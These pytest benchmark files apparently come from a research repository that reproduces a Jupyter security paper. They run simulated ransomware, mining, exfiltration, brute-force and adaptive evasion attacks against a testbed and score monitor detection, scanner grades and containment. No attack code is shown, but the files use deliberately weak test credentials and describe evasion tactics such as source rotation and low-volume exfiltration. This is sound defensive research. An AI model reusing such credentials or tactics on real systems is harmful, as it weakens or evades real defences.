    report("EXP-PQC", f"verify {scheme:>13s}: {stats.mean * 1e6:10.1f} us")


def test_signature_size_ordering(benchmark):
    def sizes():
        return {s: len(get_signer(s, KEY).sign(SEGMENTS)) for s in SCHEMES}

    size = benchmark.pedantic(sizes, rounds=1, iterations=1)
    report("EXP-PQC", f"\nsignature bytes: {size}")
    # Paper shape: classical tiny, Lamport huge, WOTS ~8x smaller than
    # Lamport, Merkle = WOTS + auth path overhead.
    assert size["hmac-sha256"] == 64
    assert size["lamport"] == 8192
    assert size["wots"] < size["lamport"] / 3
    assert size["wots"] < size["merkle"] < size["lamport"]


def test_hndl_exposure_sweep(benchmark):
    def sweep():
        rows = []
        for migrate_year in (9999, 2026, 2030):
            model = HNDLModel()
            for capture_year in range(2024, 2035):
                scheme = "merkle" if capture_year >= migrate_year else "hmac-sha256"
                model.add(TrafficRecord(capture_year, 8.0, scheme))
            rows.append((migrate_year, model.sweep([2028, 2032, 2036, 2040])))
        return rows

    rows = benchmark.pedantic(sweep, rounds=1, iterations=1)
    report("EXP-PQC", "\n=== harvest-now-decrypt-later exposure ===")
    report("EXP-PQC", f"{'migrate':>8s} " + " ".join(f"crqc{y}" for y in (2028, 2032, 2036, 2040)))
    for migrate_year, sweep_result in rows:
        label = "never" if migrate_year == 9999 else str(migrate_year)
        report("EXP-PQC", f"{label:>8s} " +
               " ".join(f"{v:8.2f}" for v in sweep_result.values()))
    never = dict(rows)[9999]
    early = dict(rows)[2026]
    # Early migration strictly reduces exposure at every CRQC year
    # where exposure exists at all.
    for year in (2028, 2032, 2036):
        assert early[year] <= never[year]
    assert early[2036] < never[2036]


def test_merkle_statefulness_cost(benchmark):
    """Operational price of hash-based schemes: bounded signature count."""
    from repro.crypto.pq import MerkleSigner

    def exhaust():
        signer = MerkleSigner(KEY, height=3)
        count = 0
        try:
            while True:
                signer.sign([f"msg{count}".encode()])
                count += 1
        except RuntimeError:
            return count

    count = benchmark.pedantic(exhaust, rounds=1, iterations=1)
    assert count == 8  # 2^3 leaves
    report("EXP-PQC", f"\nmerkle h=3 exhausted after {count} signatures "
                      "(statefulness is the operational cost)")
