"""TAB1 — Table 1: avenues of attack → concerns, reproduced by execution.

The paper's Table 1 asserts which concerns each avenue raises.  Here
every avenue is *run* against the testbed and the observed concerns are
tabulated next to the declared ones.  The shape check: observations are
a non-empty subset of declarations for every successful attack.
"""

import pytest
from _bench_utils import report

from repro.attacks import (
    CryptominingAttack,
    ExfiltrationAttack,
    OpenServerExploitAttack,
    RansomwareAttack,
    TokenBruteforceAttack,
    ZeroDayAttack,
)
from repro.attacks.scenario import build_scenario
from repro.server.config import ServerConfig, insecure_demo_config
from repro.taxonomy import JUPYTER_OSCRP
from repro.taxonomy.render import render_table


def run_all_avenues():
    results = {}
    # Each attack gets a fresh world so side effects don't interact.
    results["ransomware"] = RansomwareAttack(via="kernel").run(build_scenario(seed=81))
    results["crypto-mining"] = CryptominingAttack(rounds=8, hashes_per_round=300).run(
        build_scenario(seed=82))
    results["data-exfiltration"] = ExfiltrationAttack().run(build_scenario(seed=83))
    results["account-takeover"] = TokenBruteforceAttack(delay=0.2).run(
        build_scenario(config=ServerConfig(ip="0.0.0.0", token="admin"), seed=84))
    results["security-misconfiguration"] = OpenServerExploitAttack().run(
        build_scenario(config=insecure_demo_config(), seed=85))
    results["zero-day"] = ZeroDayAttack(exfil_bytes=60_000, overwrite_files=3).run(
        build_scenario(seed=86))
    return results


def test_table1_regenerated_from_execution(benchmark):
    results = benchmark.pedantic(run_all_avenues, rounds=1, iterations=1)
    rows = []
    for avenue_name, result in results.items():
        declared = JUPYTER_OSCRP.concerns_for(result.avenue)
        observed = result.observed_concerns
        assert result.success, f"{avenue_name} attack failed to execute"
        assert observed, f"{avenue_name} produced no observable concerns"
        assert observed <= declared, (
            f"{avenue_name}: observed {observed} exceeds declared {declared}")
        rows.append((
            avenue_name,
            ", ".join(sorted(c.value for c in observed)),
            ", ".join(sorted(c.value for c in declared - observed)) or "-",
        ))
    table = render_table(rows, ["avenue (executed)", "concerns observed",
                                "declared but not exercised here"])
    report("TAB1", "=== Table 1 (regenerated from live attacks) ===")
    report("TAB1", table)


def test_table1_declared_mapping(benchmark):
    rows = benchmark(JUPYTER_OSCRP.table_rows)
    report("TAB1", "\n=== Table 1 (declared mapping, as printed in the paper) ===")
    report("TAB1", render_table(rows, ["avenue", "concerns", "consequences"]))
    assert len(rows) == 6
    # Ransomware must map to inaccessible data; exfiltration to exposure.
    by_avenue = {r[0]: r for r in rows}
    assert "inaccessible-or-incorrect-data" in by_avenue["ransomware"][1]
    assert "exposed-data" in by_avenue["data-exfiltration"][1]
    assert "disruption-of-computing" in by_avenue["crypto-mining"][1]
