"""EXP-MISCFG — scanner risk score vs actual exploitability.

The misconfiguration avenue is preventable: the scanner's static grade
should predict what an attacker can actually do.  We scan a spectrum of
deployments and then *run the open-server exploit* against each,
checking the correlation: grade F ⇒ full compromise, grade A/B ⇒ attack
fails.  Also prices the scanner itself (configs/second).
"""

import pytest
from _bench_utils import report

from repro.attacks import OpenServerExploitAttack, TokenBruteforceAttack
from repro.attacks.scenario import build_scenario
from repro.crypto.passwords import hash_password
from repro.misconfig import MisconfigScanner
from repro.server.config import ServerConfig, insecure_demo_config
from repro.taxonomy.render import render_table
from repro.util.errors import ReproError


def deployment_spectrum():
    return [
        ("open-demo", insecure_demo_config()),
        ("weak-token", ServerConfig(server_name="weak-token", ip="0.0.0.0",
                                    token="admin", version="6.4.11")),
        ("weak-password", ServerConfig(server_name="weak-password", ip="0.0.0.0", token="",
                                       password_hash=hash_password("hunter2", rounds=100))),
        ("strong-public", ServerConfig(server_name="strong-public", ip="0.0.0.0",
                                       certfile="c", keyfile="k",
                                       rate_limit_window_seconds=60,
                                       rate_limit_max_requests=600)),
        ("hardened", insecure_demo_config().hardened_copy()),
    ]


def exploit_outcome(config) -> str:
    sc = build_scenario(config=config, seed=101)
    try:
        result = OpenServerExploitAttack().run(sc)
    except ReproError:
        return "unreachable"
    if result.success and result.metrics.get("code_execution"):
        return "full-compromise"
    if result.success:
        return "data-exposed"
    # Try the cheap token guess as a fallback measure of weakness.
    sc2 = build_scenario(config=config, seed=102)
    brute = TokenBruteforceAttack(delay=0.1).run(sc2)
    return "token-guessed" if brute.success else "resisted"


def test_risk_score_predicts_exploitability(benchmark):
    scanner = MisconfigScanner()

    def experiment():
        rows = []
        for name, cfg in deployment_spectrum():
            grade = scanner.scan(cfg)
            outcome = exploit_outcome(cfg)
            rows.append((name, grade.grade, f"{grade.risk_score:.0f}", outcome))
        return rows

    rows = benchmark.pedantic(experiment, rounds=1, iterations=1)
    report("EXP-MISCFG", "=== scanner grade vs live exploitation outcome ===")
    report("EXP-MISCFG", render_table(rows, ["deployment", "grade", "risk", "exploit outcome"]))
    by_name = {r[0]: r for r in rows}
    assert by_name["open-demo"][3] == "full-compromise"
    assert by_name["weak-token"][3] in ("token-guessed", "full-compromise")
    assert by_name["hardened"][3] in ("resisted", "unreachable")
    assert by_name["strong-public"][3] == "resisted"
    # Monotone: risk scores ordered consistently with outcomes.
    risk = {name: float(r) for name, _, r, _ in rows}
    assert risk["open-demo"] > risk["strong-public"] > risk["hardened"]


def test_scanner_throughput(benchmark):
    scanner = MisconfigScanner()
    configs = [cfg for _, cfg in deployment_spectrum()] * 20

    reports = benchmark(scanner.scan_fleet, configs)
    assert len(reports) == len(configs)
    stats = benchmark.stats.stats
    report("EXP-MISCFG", f"\nscanner throughput: {len(configs) / stats.mean:,.0f} configs/s")


def test_hardening_delta(benchmark):
    scanner = MisconfigScanner()
    delta = benchmark(scanner.hardening_delta, insecure_demo_config())
    report("EXP-MISCFG", f"hardening: risk {delta['before']:.0f} -> {delta['after']:.0f} "
                         f"(-{delta['reduction']:.0f})")
    assert delta["after"] < delta["before"] / 5
