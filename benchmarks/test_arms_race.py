"""EXP-ARMS — the closed-loop arms race: adaptive attackers vs the SOC.

PR 4's EXP-SOC showed the response layer zeroing a *static* campaign's
post-detection success.  This experiment closes the other half of the
loop on the ``defended-sharded-hub`` world and prices all three regimes
in one table:

1. **static** — the scripted attacker: contained once, stays out
   (post-detection success 0, no re-entry).
2. **adaptive vs the standard playbook** (TTL'd containment, the
   ``adaptive-sharded-hub`` posture): ``source-rotation`` re-enters from
   fresh sources and keeps looting after detection; ``low-and-slow``
   exfiltrates under the volume floors without ever being contained.
3. **adaptive vs a tightened playbook** (short cooldowns, containment
   never expires): the same rotation attacker runs out of clean sources
   and gives up — adaptive success is pushed back down.

Everything is deterministic under the fixed seed: the same duel run
twice must serialize byte-identically (the adversary engine's
determinism contract).
"""

from _bench_utils import report

from repro.adversary import AdversaryPolicy, ArmsRaceRunner
from repro.soc.playbook import tightened

BASE_SEED = 7207
N_TENANTS = 6

#: The pressed-attacker configuration: one spare source and four
#: objective waves, so the duel outlives the attacker's fresh pool and
#: the containment-TTL question decides the outcome.
PRESSED = AdversaryPolicy(strategy="source-rotation", source_pool_size=1,
                          horizon=400.0)

ROWS = {}


def duel(strategy, *, regime, adversary=None, waves=2, seed_offset=0):
    runner = ArmsRaceRunner(
        "adaptive-sharded-hub", seed=BASE_SEED + seed_offset,
        strategy=strategy, adversary=adversary, waves=waves,
        n_tenants=N_TENANTS,
        response=tightened() if regime == "tightened" else None)
    rep = runner.run()
    ROWS[(regime, strategy)] = rep
    return rep


def render_table():
    lines = [f"{'regime':<10} {'strategy':<16} {'outcome':<19} "
             f"{'re-entry':>8} {'re-cont':>8} {'post-det':>8} "
             f"{'exfil(B)':>9} {'loot(B)':>9} {'ttr(s)':>7} {'cost':>6}"]
    for (regime, strategy), rep in ROWS.items():
        metrics = rep.adaptation_metrics()
        ttr = metrics["time_to_reentry"]
        lines.append(
            f"{regime:<10} {strategy:<16} "
            f"{rep.agents[0].finish_reason:<19} "
            f"{len(rep.re_entries):>8} {len(rep.re_containments):>8} "
            f"{rep.post_detection_successes:>8} "
            f"{rep.bytes_exfiltrated:>9} {rep.bytes_looted:>9} "
            f"{f'{ttr:.1f}' if ttr is not None else '-':>7} "
            f"{rep.total_cost:>6.0f}")
    return lines


def test_static_campaign_stays_contained(benchmark):
    rep = benchmark.pedantic(
        lambda: duel("static", regime="standard"), rounds=1, iterations=1)
    assert rep.detected_at is not None
    assert rep.first_contained_at is not None
    # The acceptance line: post-detection success stays 0.0 for the
    # static attacker, which never re-enters.
    assert rep.post_detection_successes == 0
    assert rep.re_entries == []


def test_source_rotation_achieves_reentry(benchmark):
    rep = benchmark.pedantic(
        lambda: duel("source-rotation", regime="standard",
                     adversary=PRESSED, waves=4),
        rounds=1, iterations=1)
    # Measurable re-entry: the attacker comes back after containment
    # and wins objective stages after detection.
    assert len(rep.re_entries) >= 2
    assert rep.post_detection_successes >= 2
    assert rep.agents[0].finish_reason == "objective-complete"
    # Both sides stayed live: the defender released expired blocks and
    # re-contained the returning source.
    assert rep.released_total >= 1
    assert rep.defender_recontained
    metrics = rep.adaptation_metrics()
    assert metrics["time_to_reentry"] is not None
    assert metrics["defense_coverage"]["decay"] > 0.0


def test_low_and_slow_exfiltrates_below_the_floor(benchmark):
    rep = benchmark.pedantic(
        lambda: duel("low-and-slow", regime="standard"),
        rounds=1, iterations=1)
    # Measurable exfil with no volume-detector notice and no
    # containment: the drip stays under both floors.
    assert rep.bytes_exfiltrated >= 6400
    assert not {"EXFIL_VOLUME", "EXFIL_CUSUM_DRIFT"} & set(rep.notices)
    assert rep.first_contained_at is None
    assert rep.evictions == []


def test_tightened_playbook_pushes_adaptive_success_down(benchmark):
    rep = benchmark.pedantic(
        lambda: duel("source-rotation", regime="tightened",
                     adversary=PRESSED, waves=4),
        rounds=1, iterations=1)
    lenient = ROWS[("standard", "source-rotation")]
    # Permanent blocks + short cooldowns: the pool runs dry, the
    # attacker concedes, and every adaptive number drops.
    assert rep.agents[0].finish_reason in ("gave-up", "no-moves")
    assert rep.post_detection_successes < lenient.post_detection_successes
    assert len(rep.re_entries) < len(lenient.re_entries)
    assert rep.bytes_looted < lenient.bytes_looted
    assert rep.released_total == 0
    assert rep.adaptation_metrics()["defense_coverage"]["decay"] == 0.0


def test_duels_are_deterministic(benchmark):
    def run_once():
        return ArmsRaceRunner(
            "adaptive-sharded-hub", seed=BASE_SEED,
            strategy="source-rotation", adversary=PRESSED, waves=4,
            n_tenants=N_TENANTS).run().to_json()

    first = benchmark.pedantic(run_once, rounds=1, iterations=1)
    second = run_once()
    assert first == second, "same seed, different duel — determinism broken"


def test_write_exp_arms_table():
    assert len(ROWS) >= 4
    report("EXP-ARMS", "EXP-ARMS: adaptive adversaries vs the defended "
                       f"sharded hub ({N_TENANTS} tenants, seed {BASE_SEED})",
           meta={"preset": "adaptive-sharded-hub", "seed": BASE_SEED})
    for line in render_table():
        report("EXP-ARMS", line)
    rotation = ROWS[("standard", "source-rotation")]
    metrics = rotation.adaptation_metrics()
    half = metrics["containment_half_life"]
    cpb = metrics["cost_per_exfiltrated_byte"]
    report("EXP-ARMS",
           f"\nrotation vs standard playbook: containment half-life "
           f"{f'{half:.1f}s' if half is not None else '-'}; attacker cost "
           f"{f'{cpb:.4f}' if cpb is not None else '-'}/byte; "
           f"defender released {rotation.released_total} and re-contained "
           f"{rotation.re_contained_total} containments")
