"""EXP-TOPO — the campaign matrix: every objective against every topology.

The paper's threat taxonomy is defined against one deployment; the
topology layer runs it against *four* — the single open server, the
multi-tenant hub, the consistent-hash-sharded hub, and the
honeypot-tenant hub — and reports detection/success rates per
(topology, objective) cell.  Two claims get numbers:

1. **Coverage** — every generated objective (extort/steal/mine) runs
   end-to-end on every registered topology preset; no attack is
   single-server-only.
2. **Defense-in-depth ordering** — campaigns remain broadly detectable
   on every topology (the monitor rides the tap wherever the tap is),
   and the honeypot-tenant hub additionally burns the attacking source
   into the intel feed, a signal no other topology produces.
"""

from _bench_utils import report

from repro.attacks.campaign import OBJECTIVES, TopologyMatrixRunner
from repro.topology import spec_preset

#: Small worlds so the matrix stays CI-sized; the shapes are the point.
TOPOLOGIES = {
    "single-server": spec_preset("single-server"),
    "hub": spec_preset("hub", n_tenants=2),
    "sharded-hub": spec_preset("sharded-hub", n_shards=3, n_tenants=6),
    "honeypot-hub": spec_preset("honeypot-hub", n_tenants=2),
}


def test_campaign_matrix_covers_every_topology_and_objective():
    runner = TopologyMatrixRunner(TOPOLOGIES, campaigns_per_cell=1,
                                  base_seed=8800, with_recon=False)
    matrix = runner.run()

    # Completeness: one cell per (topology, objective), none silently
    # dropped, every campaign ran to completion (no aborted stages).
    assert matrix.topologies() == sorted(TOPOLOGIES)
    for topology in TOPOLOGIES:
        for objective in OBJECTIVES:
            cell = matrix.cell(topology, objective)
            assert cell is not None, (topology, objective)
            assert cell.rates["campaigns"] == 1
            assert cell.rates["aborted"] == 0.0, (
                topology, objective, [o.failure for o in cell.outcomes])

    by_topology = matrix.by_topology()
    for topology, rates in by_topology.items():
        assert rates["campaigns"] == len(OBJECTIVES)
        assert 0.0 <= rates["detected"] <= 1.0
        assert rates["succeeded"] > 0.0, topology
        # The monitor travels with the topology: campaigns do not go
        # dark just because the world got more complicated.
        assert rates["detected"] > 0.0, topology

    report("EXP-TOPO", "EXP-TOPO: campaign matrix "
                       "(1 campaign/cell, objectives x topologies)",
           meta={"seed": 8800})
    report("EXP-TOPO", matrix.render())
    report("EXP-TOPO", "  per-topology: " + ", ".join(
        f"{t}: det={r['detected']:.2f} succ={r['succeeded']:.2f}"
        for t, r in sorted(by_topology.items())))


def test_matrix_runs_are_reproducible():
    small = {"single-server": spec_preset("single-server")}
    a = TopologyMatrixRunner(small, objectives=["mine"], campaigns_per_cell=2,
                             base_seed=8900).run()
    b = TopologyMatrixRunner(small, objectives=["mine"], campaigns_per_cell=2,
                             base_seed=8900).run()
    assert a.to_dict() == b.to_dict()
    assert [o.notices_triggered for c in a.cells for o in c.outcomes] == \
           [o.notices_triggered for c in b.cells for o in c.outcomes]
