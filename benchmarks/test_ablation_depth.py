"""ABL-DEPTH — ablation: analyzer depth vs detection coverage.

DESIGN.md calls out analyzer depth as the central design choice of the
monitoring tool (visibility vs overhead, EXP-OVH prices the overhead
side).  This ablation prices the *visibility* side: the same attack
campaign replayed against monitors at each depth, counting which notice
families survive.  Expected shape: flow-level detectors (egress volume,
brute force via... no — brute force needs HTTP) degrade stepwise; the
Jupyter-layer signatures and output-size rules exist only at full depth.
"""

import pytest
from _bench_utils import report

from repro.attacks import CryptominingAttack, ExfiltrationAttack, OutputSmugglingAttack, TokenBruteforceAttack
from repro.attacks.scenario import build_scenario
from repro.monitor import AnalyzerDepth
from repro.taxonomy.render import render_table


def run_campaign_at_depth(depth: AnalyzerDepth):
    sc = build_scenario(seed=77, depth=depth)
    TokenBruteforceAttack(delay=0.3).run(sc)
    ExfiltrationAttack().run(sc)
    OutputSmugglingAttack().run(sc)
    CryptominingAttack(rounds=6, hashes_per_round=250).run(sc)
    sc.run(20.0)
    # Network-plane notices only (audit plane is depth-independent).
    return sorted({n.name for n in sc.monitor.logs.notices
                   if n.detector in ("signature", "jupyter-layer", "egress-volume",
                                     "cusum-egress", "beacon", "brute-force")})


EXPECTED_AT_FULL = {"AUTH_BRUTEFORCE", "EXFIL_VOLUME", "OVERSIZED_OUTPUT", "SIG-MINER-POOL"}


def test_depth_visibility_ablation(benchmark):
    def ablate():
        return {depth: run_campaign_at_depth(depth) for depth in AnalyzerDepth}

    results = benchmark.pedantic(ablate, rounds=1, iterations=1)
    rows = [(d.name, ", ".join(names) or "-") for d, names in results.items()]
    report("ABL-DEPTH", "=== ablation: analyzer depth vs network-plane notices ===")
    report("ABL-DEPTH", render_table(rows, ["depth", "notices"]))

    conn_only = set(results[AnalyzerDepth.CONN])
    http = set(results[AnalyzerDepth.HTTP])
    full = set(results[AnalyzerDepth.JUPYTER])

    # Flow-level detectors (egress volume/beacon) work even at CONN depth.
    assert "EXFIL_VOLUME" in conn_only
    # Brute force requires HTTP transaction visibility.
    assert "AUTH_BRUTEFORCE" not in conn_only
    assert "AUTH_BRUTEFORCE" in http
    # Code signatures and output-size rules require the Jupyter layer.
    assert "SIG-MINER-POOL" not in http
    assert "SIG-MINER-POOL" in full
    assert "OVERSIZED_OUTPUT" not in http
    assert "OVERSIZED_OUTPUT" in full
    # Visibility is monotone in depth.
    assert conn_only <= http <= full
    assert EXPECTED_AT_FULL <= full


def test_automation_volume_stress(benchmark):
    """§IV.B: automated campaigns 'increase the volume of attacks,
    further challenge the security monitoring system.'  Under a fixed
    processing budget, a flooded monitor drops segments; with headroom it
    doesn't — volume is the attacker's friend."""
    from repro.attacks.campaign import CampaignGenerator, CampaignRunner

    def run_fleets():
        out = {}
        for budget, label in ((0.0, "unbudgeted"), (40.0, "budgeted(40/s)")):
            campaigns = CampaignGenerator(seed=88, with_recon=False).generate_fleet(
                3, objective="mine")
            runner = CampaignRunner(base_seed=7000, monitor_budget=budget)
            runner.run(campaigns)
            out[label] = {
                "detection_rate": runner.detection_rate(),
                "success_rate": runner.success_rate(),
            }
        return out

    results = benchmark.pedantic(run_fleets, rounds=1, iterations=1)
    report("ABL-DEPTH", "\n=== automated campaign fleet (3 miners) ===")
    for label, stats in results.items():
        report("ABL-DEPTH", f"  {label:16s} detection={stats['detection_rate']:.2f} "
                            f"attack-success={stats['success_rate']:.2f}")
    assert results["unbudgeted"]["detection_rate"] == 1.0
