"""BENCH-OBS — telemetry overhead on the monitor's hot path.

The ISSUE's hot-path discipline in numbers: with telemetry *disabled*
the wire-layer counters must compile down to no-ops (one ``is None``
test per drained batch), and with telemetry *enabled* the full-depth
monitor replay of the EXP-OVH workload must stay within 5% of the
disabled throughput — instrumentation that taxes the tap defeats the
paper's "monitoring must not become the overhead" argument.

Both numbers land in ``benchmarks/reports/BENCH_OBS.json``.  The CI
guard is a *ratio* measured in back-to-back pairs inside one process
(same robustness story as BENCH-WIRE's masked/unmasked guard), so noisy
runners cannot fake a pass or a fail with absolute numbers.
"""

import json
import os
import time

from _bench_utils import run_metadata
from test_overhead_scaling import TRACE, TRACE_BYTES

from repro.monitor import AnalyzerDepth, JupyterNetworkMonitor
from repro.telemetry import Telemetry

_REPORT_PATH = os.path.join(os.path.dirname(__file__), "reports", "BENCH_OBS.json")

#: CI guard: enabled-telemetry throughput >= 95% of disabled.
MAX_OVERHEAD = 0.05

RESULTS = {}


def _replay(telemetry):
    monitor = JupyterNetworkMonitor(depth=AnalyzerDepth.JUPYTER,
                                    telemetry=telemetry, name="bench-tap")
    for seg in TRACE:
        monitor.on_segment(seg)
    return monitor


def run_disabled():
    return _replay(None)  # the Telemetry.disabled() default


def run_enabled():
    return _replay(Telemetry(enabled=True))


def test_enabled_decodes_identically():
    """Instrumentation must be observation, not interference: the same
    trace decodes to the same logs and notices either way."""
    off, on = run_disabled(), run_enabled()
    assert off.logs.counts() == on.logs.counts()
    assert [n.name for n in off.logs.notices] == [n.name for n in on.logs.notices]
    # And the enabled run actually measured something.
    on.telemetry.registry.collect()
    wire = on.telemetry.registry.get("wire_messages_total")
    assert wire is not None and any(s.value > 0 for s in wire.samples())


def test_telemetry_overhead_within_5pct():
    """The ≤5% guard, measured as back-to-back disabled/enabled pairs."""
    run_disabled(); run_enabled()  # warm-up
    best_off = best_on = float("inf")
    ratios = []
    for _ in range(9):
        t0 = time.perf_counter()
        run_disabled()
        t1 = time.perf_counter()
        run_enabled()
        t2 = time.perf_counter()
        secs_off, secs_on = t1 - t0, t2 - t1
        best_off = min(best_off, secs_off)
        best_on = min(best_on, secs_on)
        ratios.append(secs_off / secs_on)
    ratios.sort()
    best_ratio = ratios[-1]  # the enabled run's best showing
    median_ratio = ratios[len(ratios) // 2]
    RESULTS["disabled_mbps"] = round(TRACE_BYTES / best_off / 1e6, 1)
    RESULTS["enabled_mbps"] = round(TRACE_BYTES / best_on / 1e6, 1)
    RESULTS["enabled_over_disabled"] = round(median_ratio, 3)
    RESULTS["enabled_over_disabled_best_pair"] = round(best_ratio, 3)
    RESULTS["overhead_pct"] = round(max(0.0, (1 - best_ratio)) * 100, 1)
    RESULTS["trace_bytes"] = TRACE_BYTES
    RESULTS["trace_segments"] = len(TRACE)
    assert best_ratio >= 1 - MAX_OVERHEAD, (
        f"telemetry overhead {1 - best_ratio:.1%} exceeds "
        f"{MAX_OVERHEAD:.0%} budget "
        f"(enabled at {best_ratio:.0%} of disabled throughput)")


def test_disabled_is_free():
    """With telemetry off, the decoders carry counters=None and the
    monitor's stamp path is behind a cached boolean — the disabled run
    must not trail a no-telemetry-at-all construction measurably.
    This is a sanity check on wiring, not a timing assertion: the
    disabled monitor must hold no live instruments at all."""
    monitor = run_disabled()
    assert monitor.telemetry is Telemetry.disabled()
    assert monitor._ws_counters is None and monitor._zmtp_counters is None
    assert not monitor._tele_on
    assert monitor.telemetry.registry.families() == []


def test_write_bench_obs_json():
    """Persist the machine-readable report (runs last in this module)."""
    assert "enabled_mbps" in RESULTS
    os.makedirs(os.path.dirname(_REPORT_PATH), exist_ok=True)
    payload = {
        "benchmark": "BENCH-OBS",
        "methodology": "back-to-back disabled/enabled pairs, best-pair ratio",
        "guard": f"enabled >= {1 - MAX_OVERHEAD:.2f} * disabled throughput",
        "meta": run_metadata(workload="EXP-OVH trace", depth="JUPYTER"),
        **RESULTS,
    }
    with open(_REPORT_PATH, "w") as fh:
        json.dump(payload, fh, indent=2, sort_keys=True)
        fh.write("\n")
    print(json.dumps(payload, indent=2, sort_keys=True))
