"""BENCH-OBS — telemetry overhead on the monitor's hot path.

The ISSUE's hot-path discipline in numbers: with telemetry *disabled*
the wire-layer counters must compile down to no-ops (one ``is None``
test per drained batch), and with telemetry *enabled* the full-depth
monitor replay of the EXP-OVH workload must stay within 5% of the
disabled throughput — instrumentation that taxes the tap defeats the
paper's "monitoring must not become the overhead" argument.

Both numbers land in ``benchmarks/reports/BENCH_OBS.json``.  The CI
guard is a *ratio* measured in back-to-back pairs inside one process
(same robustness story as BENCH-WIRE's masked/unmasked guard), so noisy
runners cannot fake a pass or a fail with absolute numbers.
"""

import json
import os
import random
import time

from _bench_utils import run_metadata
from test_overhead_scaling import TRACE, TRACE_BYTES

from repro.monitor import AnalyzerDepth, JupyterNetworkMonitor
from repro.telemetry import MetricsRegistry, Telemetry
from repro.telemetry.exporters import SCHEMA_VERSION, validate_schema_version
from repro.telemetry.federation import FederatedScraper
from repro.telemetry.sketch import QuantileSketch

_REPORT_PATH = os.path.join(os.path.dirname(__file__), "reports", "BENCH_OBS.json")

#: CI guard: enabled-telemetry throughput >= 95% of disabled.
MAX_OVERHEAD = 0.05

RESULTS = {}


def _replay(telemetry):
    monitor = JupyterNetworkMonitor(depth=AnalyzerDepth.JUPYTER,
                                    telemetry=telemetry, name="bench-tap")
    for seg in TRACE:
        monitor.on_segment(seg)
    return monitor


def run_disabled():
    return _replay(None)  # the Telemetry.disabled() default


def run_enabled():
    return _replay(Telemetry(enabled=True))


def run_profiled():
    return _replay(Telemetry(enabled=True, profile=True))


def test_enabled_decodes_identically():
    """Instrumentation must be observation, not interference: the same
    trace decodes to the same logs and notices either way."""
    off, on = run_disabled(), run_enabled()
    assert off.logs.counts() == on.logs.counts()
    assert [n.name for n in off.logs.notices] == [n.name for n in on.logs.notices]
    # And the enabled run actually measured something.
    on.telemetry.registry.collect()
    wire = on.telemetry.registry.get("wire_messages_total")
    assert wire is not None and any(s.value > 0 for s in wire.samples())


def test_telemetry_overhead_within_5pct():
    """The ≤5% guard, measured as back-to-back disabled/enabled pairs."""
    run_disabled(); run_enabled()  # warm-up
    best_off = best_on = float("inf")
    ratios = []
    for _ in range(9):
        t0 = time.perf_counter()
        run_disabled()
        t1 = time.perf_counter()
        run_enabled()
        t2 = time.perf_counter()
        secs_off, secs_on = t1 - t0, t2 - t1
        best_off = min(best_off, secs_off)
        best_on = min(best_on, secs_on)
        ratios.append(secs_off / secs_on)
    ratios.sort()
    best_ratio = ratios[-1]  # the enabled run's best showing
    median_ratio = ratios[len(ratios) // 2]
    RESULTS["disabled_mbps"] = round(TRACE_BYTES / best_off / 1e6, 1)
    RESULTS["enabled_mbps"] = round(TRACE_BYTES / best_on / 1e6, 1)
    RESULTS["enabled_over_disabled"] = round(median_ratio, 3)
    RESULTS["enabled_over_disabled_best_pair"] = round(best_ratio, 3)
    RESULTS["overhead_pct"] = round(max(0.0, (1 - best_ratio)) * 100, 1)
    RESULTS["trace_bytes"] = TRACE_BYTES
    RESULTS["trace_segments"] = len(TRACE)
    assert best_ratio >= 1 - MAX_OVERHEAD, (
        f"telemetry overhead {1 - best_ratio:.1%} exceeds "
        f"{MAX_OVERHEAD:.0%} budget "
        f"(enabled at {best_ratio:.0%} of disabled throughput)")


def test_profiled_overhead_within_5pct():
    """Same best-pair guard with the hot-path profiler armed on top of
    the sketch-backed histograms: observability at full fleet depth
    (metrics + sketches + profiler hooks) stays within the 5% budget."""
    profiled = run_profiled()
    prof = profiled.telemetry.profiler
    assert prof is not None and prof.frames() > 0, \
        "the EXP-OVH replay must light the wire profiler hooks"
    run_disabled()  # warm-up pair
    best_off = best_prof = float("inf")
    ratios = []
    for _ in range(9):
        t0 = time.perf_counter()
        run_disabled()
        t1 = time.perf_counter()
        run_profiled()
        t2 = time.perf_counter()
        best_off = min(best_off, t1 - t0)
        best_prof = min(best_prof, t2 - t1)
        ratios.append((t1 - t0) / (t2 - t1))
    ratios.sort()
    best_ratio = ratios[-1]
    RESULTS["profiled_mbps"] = round(TRACE_BYTES / best_prof / 1e6, 1)
    RESULTS["profiled_over_disabled_best_pair"] = round(best_ratio, 3)
    RESULTS["profiled_overhead_pct"] = round(max(0.0, 1 - best_ratio) * 100, 1)
    assert best_ratio >= 1 - MAX_OVERHEAD, (
        f"profiler+sketch overhead {1 - best_ratio:.1%} exceeds "
        f"{MAX_OVERHEAD:.0%} budget")


def test_sketch_merge_throughput():
    """Fleet quantile cost: merging per-shard sketches is per-bucket
    addition, so fleet p99s are cheap at any shard count."""
    rng = random.Random(8080)
    shards = []
    for _ in range(16):
        sk = QuantileSketch()
        for _ in range(10_000):
            sk.add(rng.uniform(0.0001, 30.0))
        shards.append(sk)
    rounds = 50
    t0 = time.perf_counter()
    for _ in range(rounds):
        fleet = QuantileSketch()
        for sk in shards:
            fleet.merge(sk)
    secs = time.perf_counter() - t0
    assert fleet.count == 16 * 10_000
    merges = rounds * len(shards)
    RESULTS["sketch_merge_per_sec"] = round(merges / secs)
    RESULTS["sketch_merge_values_per_sec"] = round(fleet.count * rounds / secs)


def test_federation_scrape_cost():
    """Delta-scrape cost per shard poll: cursors make an idle scrape
    nearly free and a busy one proportional to what changed."""
    reg = MetricsRegistry()
    hits = reg.counter("hits_total", "hits", labels=("code",))
    lat = reg.histogram("latency_seconds", "lat", labels=("route",))
    rng = random.Random(9090)
    for code in ("200", "301", "403", "404", "500"):
        hits.labels(code=code).inc()
    for route in ("api", "ws", "files", "login"):
        lat.labels(route=route).observe(0.1)
    fed = FederatedScraper()
    rounds = 200
    t0 = time.perf_counter()
    for _ in range(rounds):
        hits.labels(code="200").inc()
        lat.labels(route="api").observe(rng.uniform(0.001, 2.0))
        fed.scrape("s0", reg)
    secs = time.perf_counter() - t0
    assert fed.scrapes == rounds
    RESULTS["federation_scrape_us"] = round(secs / rounds * 1e6, 1)
    RESULTS["federation_scrapes_per_sec"] = round(rounds / secs)


def test_disabled_is_free():
    """With telemetry off, the decoders carry counters=None and the
    monitor's stamp path is behind a cached boolean — the disabled run
    must not trail a no-telemetry-at-all construction measurably.
    This is a sanity check on wiring, not a timing assertion: the
    disabled monitor must hold no live instruments at all."""
    monitor = run_disabled()
    assert monitor.telemetry is Telemetry.disabled()
    assert monitor._ws_counters is None and monitor._zmtp_counters is None
